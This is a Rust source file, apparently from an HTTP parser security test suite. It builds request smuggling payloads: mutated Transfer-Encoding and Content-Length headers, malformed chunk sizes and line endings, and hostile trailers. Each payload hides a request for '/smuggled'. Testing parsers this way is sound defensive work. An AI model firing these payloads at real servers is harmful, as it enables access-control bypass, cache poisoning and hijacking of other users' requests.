//! Framing attacks: lengths, codings, chunks, request lines, hosts, fields and what follows a request.
//!
//! Sources of the tricks: RFC 9112 §11, the write-ups on request smuggling since 2005 (CL.TE, TE.CL, TE.TE, CL.0,
//! 0.CL), and the rows of docs/threats.md. Each payload hides a request for `/smuggled` where it fits.

/// What stands behind a message: a request for one reader, a part of the body for another.
pub(super) const HIDDEN: &str = "GET /smuggled HTTP/1.1\r\nHost: app\r\n\r\n";

/// Bytes that parsers treat as space, as an end, or not at all.
pub(super) const ODD: [u8; 16] = [
    0x00, 0x01, 0x04, 0x08, 0x09, 0x0A, 0x0B, 0x0C, 0x0D, 0x1F, 0x20, 0x7F, 0x85, 0xA0, 0xC2, 0xFF,
];

/// Makes payloads for one target.
pub struct Framing<'a> {
    /// The target of the outer request.
    pub target: &'a str,
    /// Whole header lines of it, each with its end; a token, say.
    pub fields: &'a str,
}

impl Framing<'_> {
    /// Every payload.
    pub fn all(&self) -> Vec<Vec<u8>> {
        let mut all = self.codings();
        all.extend(self.lengths());
        all.extend(self.chunks());
        all.extend(self.request_lines());
        all.extend(self.hosts());
        all.extend(self.odd_fields());
        all.extend(self.sequences());
        all
    }

    /// `POST target`, `Host`, the fields, these lines, and all that follows the head.
    pub(super) fn post(&self, lines: &[u8], rest: &str) -> Vec<u8> {
        let start = format!("POST {} HTTP/1.1\r\nHost: app\r\n{}", self.target, self.fields);
        [start.as_bytes(), lines, b"\r\n", rest.as_bytes()].concat()
    }

    /// Each spelling of a coding, alone, after a length and before one.
    fn codings(&self) -> Vec<Vec<u8>> {
        let mut all = Vec::new();
        let chunked = format!("5\r\nhello\r\n0\r\n\r\n{HIDDEN}");
        let ended = format!("0\r\n\r\n{HIDDEN}");
        for line in coding_lines() {
            all.push(self.post(&line, &chunked));
            all.push(self.post(&[b"Content-Length: 4\r\n", &line[..]].concat(), &ended));
            let length = format!("Content-Length: {}\r\n", ended.len());
            all.push(self.post(&[&line[..], length.as_bytes()].concat(), &ended));
        }
        all
    }

    /// Each spelling of a length, with a request where a shorter one would end.
    fn lengths(&self) -> Vec<Vec<u8>> {
        length_lines().iter().map(|line| self.post(line, HIDDEN)).collect()
    }

    /// Each mutation of a chunked body.
    fn chunks(&self) -> Vec<Vec<u8>> {
        let long = "f".repeat(17);
        let zeros = "0".repeat(17);
        let sizes = [
            "5",
            "05",
            "0x5",
            "0X5",
            "+5",
            "-5",
            " 5",
            "5 ",
            "\t5",
            "5\t",
            "5_",
            "_5",
            "5.0",
            "5e0",
            "5,5",
            "5 5",
            "5\0",
            "\u{b}5",
            "5h",
            "h",
            "",
            "ffffffff",
            "100000005",
            "10000000000000005",
            "fffffffffffffffb",
            "80000000",
            "8000000000000000",
            &long,
            &zeros,
            "5;",
            "5;x",
            "5;x=y",
            "5; x=\"y\"",
            "5;x=\"\r\n\"",
            "5;\n",
            "5;\r",
            "5;x\0",
            "5;x=\u{1}",
            "5\u{a0}",
            "５",
            "0",
            "00",
            "-0",
            "0;x",
            "0 ",
        ];
        let mut all = Vec::new();
        let coded = b"Transfer-Encoding: chunked\r\n";
        for size in sizes {
            all.push(self.post(coded, &format!("{size}\r\nhello\r\n0\r\n\r\n{HIDDEN}")));
        }
        for end in ["\n", "\r", "\r\r\n", "\n\r", "\0\r\n", " \r\n", "\r\n\r\n", "", "\u{2028}"] {
            all.push(self.post(coded, &format!("5{end}hello\r\n0\r\n\r\n{HIDDEN}")));
            all.push(self.post(coded, &format!("5\r\nhello{end}0\r\n\r\n{HIDDEN}")));
            all.push(self.post(coded, &format!("5\r\nhello\r\n0{end}\r\n{HIDDEN}")));
            all.push(self.post(coded, &format!("5\r\nhello\r\n0\r\n{end}{HIDDEN}")));
        }
        for trailer in [
            "X-User-Id: root\r\n",
            "Content-Length: 40\r\n",
            "Transfer-Encoding: chunked\r\n",
            "Host: evil\r\n",
            " folded\r\n",
            "A : b\r\n",
            ": b\r\n",
            "A\r\n",
            "A: b\n",
            "A: \0\r\n",
            "A: b\r\n c\r\n",
            "\0\r\n",
        ] {
            all.push(self.post(coded, &format!("5\r\nhello\r\n0\r\n{trailer}\r\n{HIDDEN}")));
        }
        for cut in
            ["5\r\nhel", "5\r\nhello\r\n", "5\r\nhello\r\n0\r\n", "5\r\nhello", "5", "", "0\r\n\r"]
        {
            all.push(self.post(coded, cut));
        }
        all
    }
}

/// A field line with this byte in each place: before the name, inside it, before the colon, after it, inside the
/// value, at its end, and before the next line.
pub(super) fn around(name: &[u8], value: &[u8], byte: u8) -> [Vec<u8>; 7] {
    let (a, b) = name.split_at(name.len() / 2);
    let (c, d) = value.split_at(value.len() / 2);
    let odd = &[byte][..];
    [
        [odd, name, b": ", value, b"\r\n"].concat(),
        [a, odd, b, b": ", value, b"\r\n"].concat(),
        [name, odd, b": ", value, b"\r\n"].concat(),
        [name, b":", odd, value, b"\r\n"].concat(),
        [name, b": ", c, odd, d, b"\r\n"].concat(),
        [name, b": ", value, odd, b"\r\n"].concat(),
        [b"X: y", odd, name, b": ", value, b"\r\n"].concat(),
    ]
}

fn coding_lines() -> Vec<Vec<u8>> {
    let mut all: Vec<Vec<u8>> =
        ODD.iter().flat_map(|byte| around(b"Transfer-Encoding", b"chunked", *byte)).collect();
    let names = [
        "Transfer-Encoding",
        "transfer-encoding",
        "TRANSFER-ENCODING",
        "Transfer_Encoding",
        "Transfer.Encoding",
    ];
    all.extend(names.iter().map(|name| format!("{name}: chunked\r\n").into_bytes()));
    let values = [
        "Chunked",
        "CHUNKED",
        "chunked, chunked",
        "chunked,",
        ",chunked",
        "chunked;",
        "chunked;q=1",
        "chunked; a=b",
        "\"chunked\"",
        "'chunked'",
        "xchunked",
        "chunkedx",
        "chunk",
        "chunke",
        "identity",
        "identity, chunked",
        "chunked, identity",
        "gzip",
        "gzip, chunked",
        "chunked, gzip",
        "deflate",
        "compress, chunked",
        "cow",
        "",
        "()",
        "chunked chunked",
        "chunked\\",
        "none",
        "chunked\r\nTransfer-Encoding: chunked",
        "chunked\r\nTransfer-Encoding: identity",
        "identity\r\nTransfer-Encoding: chunked",
        "chunked\r\nTransfer-encoding: cow",
        "\r\n chunked",
        "\r\n\tchunked",
        "chunked\r\n ",
        "x\r\n chunked",
        "chunked, , ",
        "%63hunked",
    ];
    all.extend(values.iter().map(|value| format!("Transfer-Encoding: {value}\r\n").into_bytes()));
    let lines = [
        "Transfer-Encoding\r\n: chunked\r\n",
        "Transfer-Encoding\r\n : chunked\r\n",
        "Transfer-Encoding:chunked\r\n",
        "X: x\nTransfer-Encoding: chunked\r\n",
        "X: x\rTransfer-Encoding: chunked\r\n",
        "Foo: bar\r\n\rTransfer-Encoding: chunked\r\n",
        "Transfer Encoding: chunked\r\n",
        "Transfer--Encoding: chunked\r\n",
        "TE: chunked\r\n",
        "Transfer-Encoding : chunked\r\n",
        "Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked\r\n",
        "X-Transfer-Encoding: chunked\r\n",
    ];
    all.extend(lines.iter().map(|line| line.as_bytes().to_vec()));
    all
}

fn length_lines() -> Vec<Vec<u8>> {
    let mut all: Vec<Vec<u8>> =
        ODD.iter().flat_map(|byte| around(b"Content-Length", b"38", *byte)).collect();
    let values = [
        "+5",
        "-5",
        "-0",
        "0x5",
        "5.0",
        "5e0",
        "5,5",
        "5, 5",
        "5,6",
        "5 5",
        "5;",
        "5;x",
        "\"5\"",
        "'5'",
        "5\r\n 5",
        "",
        "abc",
        "5abc",
        "０",
        "99999999999999999999",
        "18446744073709551615",
        "18446744073709551616",
        "9223372036854775808",
        "4294967296",
        "4294967301",
        "2147483648",
        "005",
        "00000000000000000000000005",
        "0",
        "5_0",
        "1 ",
        "5\r\nContent-Length: 5",
        "5\r\nContent-Length: 6",
        "0\r\nContent-Length: 38",
        "38\r\nContent-Length: 0",
        "5\r\nContent_Length: 6",
        "5\r\nContent-Length : 6",
        "5\r\ncontent-length: 38",
        "5\r\n\tContent-Length: 6",
        "5,",
        ",5",
        "5\n",
        "NaN",
        "inf",
        "null",
        "5%30",
    ];
    all.extend(values.iter().map(|value| format!("Content-Length: {value}\r\n").into_bytes()));
    let names = [
        "Content_Length",
        "Content.Length",
        "Content Length",
        "Contentlength",
        "CONTENT-LENGTH",
        "Content-Length ",
        "X-Content-Length",
    ];
    all.extend(names.iter().map(|name| format!("{name}: 38\r\n").into_bytes()));
    all
}
